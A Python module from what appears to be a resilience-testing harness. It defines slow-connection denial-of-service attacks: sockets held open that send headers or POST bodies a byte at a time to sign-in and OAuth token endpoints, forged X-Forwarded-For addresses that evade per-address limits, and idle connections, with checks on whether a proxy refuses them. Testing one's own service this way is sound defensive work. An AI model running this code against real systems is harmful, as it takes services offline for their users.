"""Attacks below HTTP: connections that say little, slowly, or for ever."""

import contextlib
import socket
import ssl
import time
from collections.abc import Callable

from attacking.flood import Attack, Outcome
from attacking.forms import Begin, many, nothing, one
from attacking.instance import Instance
from attacking.wire import Answer, Wire

OPEN_EACH = 50  # connections that one attacking thread holds


class Held:
    """Connections that one thread holds open, and feeds a byte at a time."""

    def __init__(self, wire: Wire, address: Callable[[int], str], first: bytes, drop: bytes, forwarded: bool) -> None:
        self._wire, self._address, self._first, self._drop = wire, address, first, drop
        self._forwarded = forwarded
        self._open: list[socket.socket] = []

    def attempt(self, number: int) -> Answer:
        """Open one more, or feed all and see which were closed."""
        if len(self._open) < OPEN_EACH:
            return self._connect(number)
        time.sleep(0.5)
        status = 100  # all are alive
        for each in list(self._open):
            try:
                each.send(self._drop)
                answer = each.recv(200)
            except (BlockingIOError, ssl.SSLWantReadError):
                continue
            except OSError:
                answer = b""
            each.close()
            self._open.remove(each)
            status = int(answer[9:12]) if answer[:5] == b"HTTP/" else 0
        return Answer(status, {}, {}, "")

    def _connect(self, number: int) -> Answer:
        address = self._address(number)
        try:
            opened = self._wire.connect_raw(address)
        except OSError:
            return Answer(0, {}, {}, "")
        opened.setblocking(False)
        head = self._first.replace(b"ADDRESS", address.encode()) if self._forwarded else self._first
        with contextlib.suppress(OSError):
            opened.send(head)
        self._open.append(opened)
        return Answer(100, {}, {}, "")


def _refused(outcome: Outcome, _rows: dict[str, int]) -> list[str]:
    """A limit: not all of them are held."""
    return [] if outcome.refused_after is not None else ["nobody was refused"]


def _held(address: Callable[[int], str], first: bytes, drop: bytes) -> Begin:
    def begin(instance: Instance, wire: Wire, _thread: int) -> Callable[[int], Answer]:
        return Held(wire, address, first, drop, instance.is_proxied).attempt

    return begin


_HEADERS = b"GET /sign-in HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: ADDRESS\r\n"
_BODY = (
    b"POST /oauth/token HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: ADDRESS\r\n"
    b"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\ngrant_type="
)

SOCKETS = (
    Attack("slow-headers", "1,000 connections of one address that send a header a second",
           _held(one, _HEADERS, b"X-A: b\r\n"), nothing, 20, 2000),
    Attack("slow-headers-many", "3,000 connections of many addresses that send a header a second",
           _held(many, _HEADERS, b"X-A: b\r\n"), nothing, 60, 4000),
    Attack("slow-bodies", "500 bodies of one address that come a byte at a time", _held(one, _BODY, b"x"), nothing, 10,
           1000),
    Attack("slow-bodies-many", "500 bodies of many addresses that come a byte at a time", _held(many, _BODY, b"x"),
           nothing, 10, 1000, is_hard_on_all=True),
    Attack("slow-bodies-nginx", "2,000 bodies of one address that come to nginx a byte at a time",
           _held(one, _BODY, b"x"), _refused, 40, 300, needs_proxy=True),
    Attack("slow-bodies-many-nginx", "2,000 bodies of many addresses that come to nginx a byte at a time",
           _held(many, _BODY, b"x"), nothing, 40, 300, needs_proxy=True),
    Attack("idle", "2,000 connections of many addresses that say nothing", _held(many, b"", b""), nothing, 40, 4000),
)  # fmt: skip
